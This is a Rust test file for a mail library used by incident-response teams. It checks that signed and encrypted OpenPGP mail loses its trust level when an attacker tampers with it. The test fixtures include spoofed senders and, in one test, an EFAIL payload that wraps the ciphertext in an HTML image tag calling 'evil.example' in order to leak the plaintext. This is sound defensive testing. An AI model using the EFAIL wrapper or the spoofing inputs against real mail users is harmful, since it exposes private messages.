//! Protected mails as they are written, as they are read, and as attackers change them.

use comity_mail::assurance::{Act, Assurance, Evidence, Level, Party, Reason, assess};
use comity_mail::compose::{Enclosure, Letter};
use comity_mail::guard::{GuardLimits, Verdict, guard};
use comity_mail::opening::{Inside, Notice, Opened, Opener, open};
use comity_mail::openpgp::{
    DecryptError, DecryptLimits, SecretKey, SignatureFault, SignatureResult,
};
use comity_mail::reading::{Coverage, Mail, ReadLimits, Warning, read};
use comity_stix::marking::Tlp;

use super::openpgp::{DAY, NOW, key, sealed_packets};

pub(crate) fn letter() -> Letter {
    Letter {
        from_name: Some("CERT A, duty officer".to_owned()),
        from: "cases@in.cert-a.example".to_owned(),
        to: vec!["poc@in.cert-b.example".to_owned()],
        reply_to: None,
        subject: "Beacons, please close".to_owned(),
        tlp: Some(Tlp::Amber),
        text: "Please close the case.   \n-- \nThe duty officer\n".to_owned(),
        enclosures: Vec::new(),
        message_id: "a1@in.cert-a.example".to_owned(),
        in_reply_to: None,
        references: Vec::new(),
        auto_submitted: None,
        date: NOW,
        boundary: [0xA7; 16],
    }
}

/// Two parties, each with a key, and what B makes of a mail.
struct Pair {
    a: SecretKey,
    b: SecretKey,
}

struct Seen {
    mail: Mail,
    opened: Opened,
    assurance: Assurance,
}

impl Pair {
    fn new() -> Self {
        Self {
            a: key("CERT A <cases@in.cert-a.example>", 1),
            b: key("CERT B <poc@in.cert-b.example>", 2),
        }
    }

    fn see(&self, raw: &[u8]) -> Seen {
        self.see_at(raw, NOW, &[&self.b])
    }

    fn see_at(&self, raw: &[u8], now: i64, keys: &[&SecretKey]) -> Seen {
        assert_eq!(guard(raw, &GuardLimits::EXCHANGE), Verdict::Pass);
        let mail = read(raw, &ReadLimits::EXCHANGE, &["in.cert-a.example"]).unwrap();
        let certificates = [self.a.certificate(), self.b.certificate()];
        let with = Opener {
            keys,
            certificates: &certificates,
            domains: &["in.cert-a.example"],
            read: &ReadLimits::EXCHANGE,
            decrypt: &DecryptLimits::EXCHANGE,
            now,
        };
        let opened = open(raw, mail.clone(), &with);
        let fingerprints = [self.a.certificate().fingerprint()];
        let parties = [Party {
            id: "cert-a",
            domains: &["in.cert-a.example"],
            fingerprints: &fingerprints,
        }];
        let outer = mail.fields.from.domain();
        let evidence = Evidence {
            parties: &parties,
            own_domains: &["in.cert-b.example"],
            ..Evidence::of(&opened, &outer, now)
        };
        let assurance = assess(&evidence);
        Seen {
            mail,
            opened,
            assurance,
        }
    }
}

fn text(opened: &Opened) -> String {
    let texts = opened.content.texts.iter();
    texts.map(|block| block.text.as_str()).collect()
}

fn replaced(mail: &[u8], from: &str, to: &str) -> Vec<u8> {
    let text = String::from_utf8(mail.to_vec()).unwrap();
    assert!(text.contains(from), "{from} is not in {text}");
    text.replacen(from, to, 1).into_bytes()
}

#[test]
fn a_signed_mail_is_read_back_at_l3() {
    let pair = Pair::new();
    let mut letter = letter();
    letter.enclosures.push(Enclosure {
        media_type: "application/json".to_owned(),
        name: "bundle.json".to_owned(),
        bytes: b"{}".to_vec(),
    });
    for enclosures in [1, 0] {
        letter.enclosures.truncate(enclosures);
        let raw = letter.write_signed(&pair.a, NOW).unwrap();
        let seen = pair.see(&raw);
        assert!(
            matches!(seen.opened.signature, Some(SignatureResult::Good(_))),
            "{:?}",
            seen.opened.signature
        );
        assert_eq!(
            (seen.opened.inside, &seen.opened.notices),
            (Inside::ALL, &Vec::new())
        );
        assert_eq!(
            seen.assurance.level,
            Level::L3,
            "{:?}",
            seen.assurance.reasons
        );
        assert_eq!(seen.assurance.party.as_deref(), Some("cert-a"));
        assert!(seen.assurance.forbids().is_empty());
        assert_eq!(seen.opened.content.attachments.len(), enclosures);
        assert_eq!(seen.opened.content.tlp, Some(Tlp::Amber));
        assert!(text(&seen.opened).contains("Please close the case."));
        assert!(!seen.opened.decrypted);
    }
}

#[test]
fn an_encrypted_mail_hides_its_subject_and_is_read_back_at_l3() {
    let pair = Pair::new();
    let raw = letter()
        .write_encrypted(Some(&pair.a), &[pair.b.certificate()], NOW, &[5; 32])
        .unwrap();
    let words = String::from_utf8(raw.clone()).unwrap();
    assert!(!words.contains("Beacons") && !words.contains("close"));
    assert!(words.contains("Subject: [...] TLP:AMBER\r\n"));
    let seen = pair.see(&raw);
    assert_eq!(
        seen.opened.content.fields.subject,
        "[TLP:AMBER] Beacons, please close"
    );
    assert_eq!(
        seen.assurance.level,
        Level::L3,
        "{:?}",
        seen.assurance.reasons
    );
    assert!(
        seen.opened.decrypted && seen.opened.notices.is_empty(),
        "{:?}",
        seen.opened.notices
    );
    let inside = String::from_utf8(seen.opened.entity.clone()).unwrap();
    assert!(inside.contains("HP-Outer: Subject: [...] TLP:AMBER\r\n"));
    assert!(inside.contains("hp=\"cipher\""));
    // Without the key it stays closed, and is worth nothing.
    let other = key("C <c@in.cert-c.example>", 3);
    let seen = pair.see_at(&raw, NOW, &[&other]);
    assert_eq!(
        seen.opened.notices,
        [Notice::NotDecrypted(DecryptError::NoKey)]
    );
    assert_eq!(seen.assurance.level, Level::L0);
    assert_eq!(text(&seen.opened), "");
}

#[test]
fn what_is_changed_outside_does_not_count() {
    let pair = Pair::new();
    let raw = letter().write_signed(&pair.a, NOW).unwrap();
    // The first one stands outside.
    let subject = "Subject: [TLP:AMBER] Beacons, please close";
    let other = replaced(&raw, subject, "Subject: [TLP:AMBER] Something else");
    let seen = pair.see(&other);
    assert_eq!(
        seen.opened.content.fields.subject,
        "[TLP:AMBER] Beacons, please close"
    );
    assert_eq!(seen.opened.notices, [Notice::Differs { field: "Subject" }]);
    assert_eq!(seen.assurance.level, Level::L3);
    // What the mail says of the digest is not asked.
    let seen = pair.see(&replaced(&raw, "micalg=pgp-sha512", "micalg=pgp-md5"));
    assert_eq!(seen.assurance.level, Level::L3);
    // Passed on by another sender: the sender inside counts, and is told to differ.
    let other = replaced(&raw, "<cases@in.cert-a.example>", "<poc@evil.example>");
    let seen = pair.see(&other);
    assert_eq!(
        seen.opened.content.fields.from.address,
        "cases@in.cert-a.example"
    );
    assert!(
        seen.opened
            .notices
            .contains(&Notice::Differs { field: "From" })
    );
    // The words changed: nothing of it counts.
    let other = replaced(&raw, "Please close", "Please leave");
    let seen = pair.see(&other);
    let result = seen.opened.signature.unwrap();
    assert!(matches!(
        result,
        SignatureResult::Bad {
            fault: SignatureFault::Mismatch,
            ..
        }
    ));
    assert_eq!(seen.assurance.level, Level::L0);
    // A sender inside that nobody known signed for is not shown.
    let stranger = key("x", 9).sign_detached(b"x", NOW).unwrap();
    let inner = format!(
        "{}Content-Type: text/plain; hp=\"clear\"\r\n\r\nx",
        FIELDS.replace("MIME-Version: 1.0\r\n", "")
    );
    let raw = signed_by_hand(&inner, &stranger, "", "");
    let raw = replaced(&raw, "cases@in.cert-a.example", "poc@evil.example");
    let seen = pair.see(&raw);
    assert_eq!(seen.opened.content.fields.from.address, "poc@evil.example");
    assert_eq!(seen.opened.inside, Inside::default());
}

#[test]
fn a_mail_meant_for_another_is_not_for_us() {
    let pair = Pair::new();
    let mut letter = letter();
    letter.to = vec!["poc@in.cert-c.example".to_owned()];
    let raw = letter.write_signed(&pair.a, NOW).unwrap();
    let passed_on = replaced(&raw, "poc@in.cert-c.example", "poc@in.cert-b.example");
    let seen = pair.see(&passed_on);
    assert!(matches!(
        seen.opened.signature,
        Some(SignatureResult::Good(_))
    ));
    assert_eq!(seen.assurance.level, Level::L0);
    assert!(seen.assurance.reasons.contains(&Reason::ForOthers));
    assert!(!seen.assurance.allows(Act::ChangeCase));
}

#[test]
fn the_signer_is_whom_from_names() {
    let pair = Pair::new();
    let mut letter = letter();
    letter.from = "chief@in.cert-z.example".to_owned();
    let seen = pair.see(&letter.write_signed(&pair.a, NOW).unwrap());
    assert_eq!(seen.assurance.level, Level::L0);
    let other = Reason::SignedByAnother {
        party: "cert-a".to_owned(),
    };
    assert!(seen.assurance.reasons.contains(&other));
    // A key that is known and registered to nobody; a key that is not known.
    for stranger in [key("x", 2), key("x", 9)] {
        let raw = self::letter().write_signed(&stranger, NOW).unwrap();
        let seen = pair.see(&raw);
        assert_eq!(seen.assurance.level, Level::L0);
        assert!(seen.assurance.reasons.contains(&Reason::UnknownKey));
    }
}

#[test]
fn fields_that_are_not_signed_are_not_l3() {
    let pair = Pair::new();
    let inner = "Content-Type: text/plain\r\n\r\nPlease close the case.";
    let full = |inner: &str| {
        let signature = pair.a.sign_detached(inner.as_bytes(), NOW).unwrap();
        signed_by_hand(inner, &signature, "", "")
    };
    let seen = pair.see(&full(inner));
    assert!(matches!(
        seen.opened.signature,
        Some(SignatureResult::Good(_))
    ));
    assert_eq!(seen.opened.notices, [Notice::FieldsOpen]);
    assert_eq!(seen.assurance.level, Level::L0);
    let head = "From: cases@in.cert-a.example\r\nTo: poc@in.cert-b.example\r\nDate: Sun, 29 Nov 2026 10:00:00 +0000\r\nSubject: x\r\n";
    let marked = "Content-Type: text/plain; hp=\"clear\"\r\n\r\nPlease close the case.";
    let older = marked.replace("hp=\"clear\"", "protected-headers=\"v1\"");
    for whole in [format!("{head}{marked}"), format!("{head}{older}")] {
        let seen = pair.see(&full(&whole));
        assert_eq!(
            seen.assurance.level,
            Level::L3,
            "{:?}",
            seen.assurance.reasons
        );
    }
    for (inner, inside) in [
        (format!("{head}{inner}"), Inside::default()),
        (
            format!("{}{marked}", head.replace("Subject: x\r\n", "")),
            Inside {
                subject: false,
                ..Inside::ALL
            },
        ),
        (
            format!("{}{marked}", head.replace("29 Nov", "99 Nov")),
            Inside {
                date: false,
                ..Inside::ALL
            },
        ),
        (
            format!("From: x@evil.example\r\n{head}{marked}"),
            Inside::default(),
        ),
        (format!("subject : y\r\n{head}{marked}"), Inside::default()),
        (
            format!("{head}{marked}").replace("cases@", "cases@x@"),
            Inside::default(),
        ),
    ] {
        let seen = pair.see(&full(&inner));
        assert_eq!(seen.opened.inside, inside, "{inner}");
        assert_eq!(seen.assurance.level, Level::L0, "{inner}");
    }
}

const FIELDS: &str = "From: cases@in.cert-a.example\r\nTo: poc@in.cert-b.example\r\nDate: Sun, 29 Nov 2026 10:00:00 +0000\r\nMessage-ID: <1@in.cert-a.example>\r\nSubject: x\r\nMIME-Version: 1.0\r\n";

fn signed_by_hand(inner: &str, signature: &str, before: &str, behind: &str) -> Vec<u8> {
    let signature = signature.trim_end().replace('\n', "\r\n");
    format!(
        "{FIELDS}Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n{before}--s\r\n{inner}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n{signature}\r\n--s--\r\n{behind}"
    )
    .into_bytes()
}

#[test]
fn what_stands_beside_a_signature_takes_its_worth() {
    let pair = Pair::new();
    let inner = "From: cases@in.cert-a.example\r\nTo: poc@in.cert-b.example\r\nDate: Sun, 29 Nov 2026 10:00:00 +0000\r\nSubject: x\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\nFine.";
    let signature = pair.a.sign_detached(inner.as_bytes(), NOW).unwrap();
    let whole = signed_by_hand(inner, &signature, "", "");
    assert_eq!(pair.see(&whole).assurance.level, Level::L3);
    // Thunderbird writes this one, for readers that know no MIME.
    let usual = "This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\r\n";
    let usual = signed_by_hand(inner, &signature, usual, "");
    assert_eq!(pair.see(&usual).assurance.level, Level::L3);
    let before = signed_by_hand(inner, &signature, "Close the case.\r\n", "");
    let behind = signed_by_hand(inner, &signature, "", "Close the case.\r\n");
    let own = String::from_utf8(whole).unwrap();
    let body = own.split_once("Content-Type: multipart").unwrap().1;
    let beside = format!(
        "{FIELDS}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nClose the case.\r\n--m\r\nContent-Type: multipart{body}\r\n--m--\r\n"
    );
    let third = own.replace("--s--", "--s\r\n\r\nClose the case.\r\n--s--");
    for raw in [before, behind, beside.into_bytes(), third.into_bytes()] {
        let seen = pair.see(&raw);
        assert_eq!(seen.assurance.level, Level::L0);
        assert!(
            seen.assurance.reasons.contains(&Reason::PartlySigned),
            "{:?}",
            seen.assurance
        );
        assert!(seen.opened.coverage < Some(Coverage::Whole));
    }
}

#[test]
fn keys_that_expired_or_were_taken_back_are_not_l3() {
    let pair = Pair::new();
    let raw = letter().write_signed(&pair.a, NOW).unwrap();
    let seen = pair.see_at(&raw, NOW + 100 * DAY, &[&pair.b]);
    assert!(
        seen.assurance
            .reasons
            .contains(&Reason::Signature(SignatureFault::KeyExpired))
    );
    assert_eq!(seen.assurance.level, Level::L0);
    let lost = pair.a.revoked(NOW + DAY, true).unwrap();
    let mail = read(&raw, &ReadLimits::EXCHANGE, &[]).unwrap();
    let with = Opener {
        keys: &[],
        certificates: &[&lost],
        domains: &[],
        read: &ReadLimits::EXCHANGE,
        decrypt: &DecryptLimits::EXCHANGE,
        now: NOW,
    };
    let opened = open(&raw, mail, &with);
    assert!(matches!(
        opened.signature,
        Some(SignatureResult::Bad {
            fault: SignatureFault::KeyRevoked { .. },
            ..
        })
    ));
}

/// EFAIL: HTML around what is encrypted would send it out. It is not decrypted at all.
#[test]
fn what_is_encrypted_beside_html_stays_closed() {
    let pair = Pair::new();
    let raw = letter()
        .write_encrypted(Some(&pair.a), &[pair.b.certificate()], NOW, &[5; 32])
        .unwrap();
    let words = String::from_utf8(raw).unwrap();
    let (_, sealed) = words
        .split_once("Content-Type: multipart/encrypted")
        .unwrap();
    let efail = format!(
        "{FIELDS}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--m\r\nContent-Type: multipart/encrypted{sealed}--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
    );
    let seen = pair.see(efail.as_bytes());
    assert!(!seen.opened.decrypted);
    assert!(
        seen.mail
            .warnings
            .iter()
            .any(|one| matches!(one, Warning::Efail { .. }))
    );
    assert!(!text(&seen.opened).contains("close the case"));
    assert_eq!(seen.assurance.level, Level::L0);
    assert!(seen.assurance.reasons.contains(&Reason::PartlyEncrypted));
}

#[test]
fn one_layer_is_opened() {
    let pair = Pair::new();
    // A whole encrypted mail as the content of another one.
    let inner = letter()
        .write_encrypted(Some(&pair.a), &[pair.b.certificate()], NOW, &[5; 32])
        .unwrap();
    let words = String::from_utf8(inner).unwrap();
    let entity = words
        .split_once("Content-Type: multipart/encrypted")
        .unwrap()
        .1;
    let entity = format!("Content-Type: multipart/encrypted{entity}");
    let mut literal = vec![0xcb, 255];
    literal.extend(u32::try_from(entity.len() + 6).unwrap().to_be_bytes());
    literal.extend(b"b\0\0\0\0\0");
    literal.extend(entity.bytes());
    let sealed = sealed_packets(&literal, &pair.b);
    let encoded = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, sealed);
    let lines: Vec<&str> = encoded
        .as_bytes()
        .chunks(76)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    let raw = format!(
        "{FIELDS}Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=m\r\n\r\n--m\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--m\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--m--\r\n",
        lines.join("\r\n")
    );
    let seen = pair.see(raw.as_bytes());
    assert!(seen.opened.decrypted);
    assert!(
        seen.opened.notices.contains(&Notice::Nested),
        "{:?}",
        seen.opened.notices
    );
    assert!(!text(&seen.opened).contains("close the case"));
    assert_eq!(seen.assurance.level, Level::L0);
}

#[test]
fn signed_words_in_a_text_are_read_alone_and_are_not_l3() {
    let pair = Pair::new();
    let secret = pgp::composed::Deserializable::from_bytes(&**pair.a.to_bytes().unwrap()).unwrap();
    let secret: pgp::composed::SignedSecretKey = secret;
    let mut random = <rand::rngs::StdRng as rand::SeedableRng>::seed_from_u64(1);
    let block = pgp::composed::CleartextSignedMessage::sign(
        &mut random,
        "Please close the case.\n- and say so\n",
        &secret.primary_key,
        &"".into(),
    )
    .unwrap();
    let block = block
        .to_armored_string(pgp::composed::ArmorOptions::default())
        .unwrap();
    let block = block.replace('\n', "\r\n").replace("\r\r", "\r");
    let raw = format!("{FIELDS}\r\n{block}\r\n");
    let now = i64::try_from(std::time::UNIX_EPOCH.elapsed().unwrap().as_secs()).unwrap();
    let seen = pair.see_at(raw.as_bytes(), now.max(NOW), &[]);
    assert!(
        matches!(seen.opened.signature, Some(SignatureResult::Good(_))),
        "{:?}",
        seen.opened.signature
    );
    assert_eq!(
        text(&seen.opened).trim(),
        "Please close the case.\n- and say so"
    );
    assert_eq!(seen.assurance.level, Level::L0);
    assert!(seen.assurance.reasons.contains(&Reason::FieldsOpen));
    let around = format!("{FIELDS}\r\nLeave it.\r\n{block}\r\n");
    let seen = pair.see_at(around.as_bytes(), now.max(NOW), &[]);
    assert!(seen.opened.signature.is_none());
    assert!(seen.assurance.reasons.contains(&Reason::PartlySigned));
}
